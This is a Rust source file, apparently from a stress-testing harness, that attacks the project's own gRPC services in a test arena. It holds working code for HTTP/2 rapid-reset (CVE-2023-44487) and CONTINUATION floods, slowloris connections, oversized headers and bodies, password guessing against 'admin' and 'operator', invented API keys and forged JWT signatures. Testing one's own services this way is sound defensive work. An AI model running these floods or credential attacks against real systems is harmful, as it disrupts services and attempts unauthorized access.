//! What somebody without a token does: who it is costs nothing, so it comes from several addresses.

use std::collections::hash_map::RandomState;
use std::hash::BuildHasher;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http::{HeaderMap, HeaderValue};
use photon_api::iam::v1::IssueTokenRequest;
use photon_api::iam::v1::issue_token_request::Credential;
use photon_api::plasmavmc::v1::ListVmsRequest;
use photon_api::prismnet::v1::ListVpcsRequest;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::arena::{Arena, CROWD, STRANGERS, TARGETS, server};
use super::attack::{Attack, Tally, Who};
use super::wire::{Failed, Line, Wire, connect, framed};

/// Longer than a server lets a stranger take for a call.
const HELD: Duration = Duration::from_secs(12);
/// Calls that one connection has under way.
const UNFINISHED: usize = 64;
/// Connections that one attacker keeps open without a word: a server's most for one address.
const SILENT: usize = 512;
/// Connections that get a byte now and then.
const SLOW: usize = 64;
/// What is called and taken back on one connection before it makes a new one.
const RESETS: usize = 2000;
/// tonic's most for a message, and one byte of it is never sent.
const FAT: usize = 4 << 20;
const FAT_AT_ONCE: usize = 16;
/// CONTINUATION frames of one endless header, 16 KiB each.
const CONTINUATIONS: usize = 4096;

/// What HTTP/2 begins with (RFC 9113, 3.4), and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

pub const ATTACKS: &[Attack] = &[
    Attack {
        who: Who::Stranger,
        name: "calls that never end",
        workers: 6,
        sockets: 3,
        work: |arena, tally, number| Box::pin(unfinished(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "a byte now and then, HTTP/1",
        workers: 3,
        sockets: SLOW,
        work: |arena, tally, number| Box::pin(slow_bytes(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "silent connections",
        workers: CROWD.len(),
        sockets: SILENT,
        work: |arena, tally, number| Box::pin(silent(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "garbage, headers without end",
        workers: 3,
        sockets: 1,
        work: |arena, tally, number| Box::pin(garbage(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "rapid resets",
        workers: 6,
        sockets: 1,
        work: |arena, tally, number| Box::pin(resets(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "headers of 64 KiB",
        workers: 3,
        sockets: 1,
        work: |arena, tally, number| Box::pin(large_headers(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "bodies of 4 MiB",
        workers: 6,
        sockets: 1,
        work: |arena, tally, number| Box::pin(fat(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "guessed passwords",
        workers: 12,
        sockets: 1,
        work: |arena, tally, number| Box::pin(guesses(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "made-up API keys",
        workers: 6,
        sockets: 1,
        work: |arena, tally, number| Box::pin(made_up_keys(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "forged tokens",
        workers: 6,
        sockets: 1,
        work: |arena, tally, number| Box::pin(forged(arena, tally, number)),
    },
    Attack {
        who: Who::Stranger,
        name: "streams without a message",
        workers: 6,
        sockets: 1,
        work: |arena, tally, number| Box::pin(wordless(arena, tally, number)),
    },
];

fn target(number: usize) -> (std::net::SocketAddr, &'static str) {
    let (component, path) = TARGETS[number % TARGETS.len()];
    (server(component), path)
}

fn source(number: usize) -> std::net::IpAddr {
    STRANGERS[number % STRANGERS.len()]
}

fn random() -> u64 {
    RandomState::new().hash_one(0)
}

/// Many calls whose bodies come byte by byte.
async fn unfinished(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    while arena.goes_on(&tally) {
        let (mut wires, mut calls) = (Vec::new(), Vec::new());
        for at in 0..TARGETS.len() {
            let (address, path) = target(at);
            let opened = Wire::open(source(number), address).await;
            tally.ended(&opened).await;
            let Ok(wire) = opened else { continue };
            for _ in 0..UNFINISHED {
                // The server's limit of one connection is smaller than that: then none is ready.
                let begin = wire.begin(path, None, HeaderMap::new());
                match timeout(Duration::from_secs(1), begin).await {
                    Ok(Ok(begun)) => calls.push(begun),
                    Ok(Err(error)) => tally.count::<()>(&Err(error)),
                    Err(_) => break,
                }
            }
            wires.push(wire);
        }
        for _ in 0..HELD.as_secs() {
            for call in &mut calls {
                // What the server has reset takes no more.
                let _ = call.body.send_data(Bytes::from_static(b"\0"), false);
            }
            sleep(Duration::from_secs(1)).await;
        }
    }
}

/// A request line and a header that never end.
async fn slow_bytes(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let (address, _) = target(number);
    let mut open: Vec<TcpStream> = Vec::new();
    while arena.goes_on(&tally) {
        while open.len() < SLOW {
            let mut stream = match connect(source(number + 1), address).await {
                Ok(stream) => stream,
                Err(error) => {
                    tally
                        .ended::<()>(&Err(Failed::Broken(error.to_string())))
                        .await;
                    break;
                }
            };
            let _ = stream
                .write_all(b"GET / HTTP/1.1\r\nHost: abuse\r\nX-A: ")
                .await;
            open.push(stream);
            tally.count(&Ok(()));
        }
        let mut kept = Vec::new();
        for mut stream in open {
            match stream.write_all(b"a").await {
                Ok(()) => kept.push(stream),
                Err(error) => tally.count::<()>(&Err(Failed::Broken(error.to_string()))),
            }
        }
        open = kept;
        sleep(Duration::from_millis(500)).await;
    }
}

/// As many connections as one address gets, without a word; from all addresses together more than IAM has.
async fn silent(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let address = server("iam");
    let mut open: Vec<TcpStream> = Vec::new();
    while arena.goes_on(&tally) {
        open.retain(still_open);
        let missing = SILENT - open.len();
        for _ in 0..missing.min(64) {
            match connect(CROWD[number], address).await {
                Ok(stream) => {
                    tally.count(&Ok(()));
                    open.push(stream);
                }
                Err(error) => {
                    tally
                        .ended::<()>(&Err(Failed::Broken(error.to_string())))
                        .await;
                    break;
                }
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Whether the server has not closed it. It may have said something: HTTP/2's settings.
fn still_open(stream: &TcpStream) -> bool {
    match stream.try_read(&mut [0; 256]) {
        Ok(read) => read > 0,
        Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
    }
}

/// Bytes that are no HTTP/2, frames that are none, and headers without an end.
async fn garbage(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let mut turn = number;
    while arena.goes_on(&tally) {
        turn += 1;
        let (address, _) = target(turn);
        let sent = async {
            let mut stream = connect(source(turn), address).await?;
            match turn % 4 {
                0 => stream.write_all(&noise(64)).await?,
                1 => {
                    stream.write_all(PREFACE).await?;
                    stream.write_all(&noise(512)).await?;
                }
                // A TLS handshake (RFC 8446, 5.1), at a port that has none here.
                2 => {
                    stream
                        .write_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc")
                        .await?
                }
                _ => headers_without_end(&mut stream).await?,
            }
            let mut answer = Vec::new();
            let read = stream.read_to_end(&mut answer);
            match timeout(Duration::from_millis(500), read).await {
                Ok(read) => read.map(drop),
                Err(_) => Ok(()),
            }
        };
        let sent: std::io::Result<()> = sent.await;
        let sent = sent.map_err(|error| Failed::Broken(error.to_string()));
        tally.ended(&sent).await;
    }
}

fn noise(words: usize) -> Vec<u8> {
    (0..words).flat_map(|_| random().to_be_bytes()).collect()
}

/// HEADERS that announces a CONTINUATION, and one after the other of these (RFC 9113, 6.10).
async fn headers_without_end(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    stream.write_all(b"\0\0\0\x01\0\0\0\0\x01").await?;
    // A literal header that is not indexed, with a name of one byte and a value of 100 (RFC 7541, 6.2.2).
    let field = [&b"\0\x01x\x64"[..], &[b'a'; 100]].concat();
    let fields = field.repeat((16 << 10) / field.len());
    let length = u32::try_from(fields.len()).unwrap_or(0).to_be_bytes();
    let frame = [&length[1..], b"\x09\0\0\0\0\x01", &fields].concat();
    for _ in 0..CONTINUATIONS {
        stream.write_all(&frame).await?;
    }
    Ok(())
}

/// Calls that are taken back at once (CVE-2023-44487).
async fn resets(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let (address, path) = target(number);
    while arena.goes_on(&tally) {
        let opened = Wire::open(source(number), address).await;
        tally.ended(&opened).await;
        let Ok(wire) = opened else { continue };
        for _ in 0..RESETS {
            if !arena.goes_on(&tally) {
                return;
            }
            match wire.begin(path, None, HeaderMap::new()).await {
                Ok(begun) => {
                    begun.reset();
                    tally.count(&Ok(()));
                }
                Err(error) => {
                    tally.ended::<()>(&Err(error)).await;
                    break;
                }
            }
            // Else the connection's task never gets to write it.
            tokio::task::yield_now().await;
        }
    }
}

/// Headers beyond what the server says that it takes.
async fn large_headers(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let (address, path) = target(number);
    let mut headers = HeaderMap::new();
    for _ in 0..64 {
        let value = HeaderValue::from_static(FILLER);
        headers.append("x-filler", value);
    }
    let mut line = Line::new(source(number + 2), address);
    while arena.goes_on(&tally) {
        let outcome = line.send(path, headers.clone()).await;
        tally.ended(&outcome).await;
    }
}

/// 1,000 bytes.
const FILLER: &str = match std::str::from_utf8(&[b'f'; 1000]) {
    Ok(text) => text,
    Err(_) => "",
};

/// Bodies as large as may be, of which the last byte never comes.
async fn fat(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let (address, path) = target(number);
    let mut message = vec![0; 5 + FAT - 1];
    message[1..5].copy_from_slice(&u32::try_from(FAT).unwrap_or(0).to_be_bytes());
    let message = Bytes::from(message);
    while arena.goes_on(&tally) {
        let opened = Wire::open(source(number), address).await;
        tally.ended(&opened).await;
        let Ok(wire) = opened else { continue };
        let mut answers = tokio::task::JoinSet::new();
        for _ in 0..FAT_AT_ONCE {
            let begun = wire.begin(path, None, HeaderMap::new()).await;
            let Ok(mut begun) = begun else { break };
            let _ = begun.body.send_data(message.clone(), false);
            answers.spawn(begun.answered());
        }
        while let Some(answer) = answers.join_next().await {
            if let Ok(answer) = answer {
                tally.count(&answer);
            }
        }
    }
}

/// Passwords of those whose names everybody knows, and of made-up ones.
async fn guesses(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let mut line = Line::new(source(number), server("iam"));
    while arena.goes_on(&tally) {
        let request = IssueTokenRequest {
            principal_id: match number % 3 {
                0 => "operator".into(),
                1 => "admin".into(),
                _ => format!("user-{:x}", random()),
            },
            org_id: match number % 3 {
                0 => String::new(),
                _ => arena.member.org.clone(),
            },
            credential: Some(Credential::Password(format!("{:032x}", random()))),
            ..Default::default()
        };
        let outcome = line.call(None, &request).await;
        tally.ended(&outcome).await;
    }
}

/// Keys that nobody was given, each another one.
async fn made_up_keys(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let mut line = Line::new(source(number), server("iam"));
    while arena.goes_on(&tally) {
        let (high, low) = (random(), random());
        let id = format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            high >> 32,
            high & 0xffff,
            high >> 16 & 0xfff,
            low >> 48 & 0xfff,
            low & 0xffff_ffff_ffff
        );
        let request = IssueTokenRequest {
            credential: Some(Credential::ApiKey(format!(
                "photon_{id}_{}A",
                "A".repeat(42)
            ))),
            ..Default::default()
        };
        let outcome = line.call(None, &request).await;
        tally.ended(&outcome).await;
    }
}

/// Tokens with another signature, by a key that there is and by one that there is not.
async fn forged(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    let token = &arena.viewer.token;
    let (signed, signature) = token.rsplit_once('.').unwrap_or((token, ""));
    let (head, claims) = signed.split_once('.').unwrap_or((signed, ""));
    let another: String = signature.chars().rev().collect();
    // The same as `{"alg":"EdDSA","typ":"JWT","kid":"nobody's"}`, in base64url.
    let nobodys = "eyJhbGciOiJFZERTQSIsInR5cCI6IkpXVCIsImtpZCI6Im5vYm9keSdzIn0";
    let component = ["prismnet", "plasmavmc"][number % 2];
    let mut line = Line::new(source(number), server(component));
    let mut turn = number;
    while arena.goes_on(&tally) {
        turn += 1;
        let head = if turn.is_multiple_of(2) {
            head
        } else {
            nobodys
        };
        let token = format!("{head}.{claims}.{another}");
        let outcome = match component {
            "prismnet" => line
                .call(Some(&token), &ListVpcsRequest::default())
                .await
                .map(drop),
            _ => line
                .call(Some(&token), &ListVmsRequest::default())
                .await
                .map(drop),
        };
        tally.ended(&outcome).await;
    }
}

/// Streams that are opened and left.
async fn wordless(arena: Arc<Arena>, tally: Arc<Tally>, number: usize) {
    const PATHS: [(&str, &str); 4] = [
        ("plasmavmc", "/plasmavmc.v1.VmService/Console"),
        ("plasmavmc", "/plasmavmc.v1.ImageService/ImportImage"),
        (
            "prismnet",
            "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
        ),
        ("iam", "/grpc.health.v1.Health/Watch"),
    ];
    let (component, path) = PATHS[number % PATHS.len()];
    while arena.goes_on(&tally) {
        let opened = Wire::open(source(number), server(component)).await;
        tally.ended(&opened).await;
        let Ok(wire) = opened else { continue };
        let mut answers = tokio::task::JoinSet::new();
        for _ in 0..UNFINISHED {
            let begin = wire.begin(path, None, HeaderMap::new());
            let Ok(Ok(mut begun)) = timeout(Duration::from_secs(1), begin).await else {
                break;
            };
            if component == "iam" {
                // This one has its message at once, and is answered for as long as it is there.
                let _ = begun.body.send_data(framed(&()), true);
            }
            answers.spawn(begun.answered());
        }
        let all = async {
            while let Some(answer) = answers.join_next().await {
                if let Ok(answer) = answer {
                    tally.count(&answer);
                }
            }
        };
        let _ = timeout(HELD, all).await;
    }
}
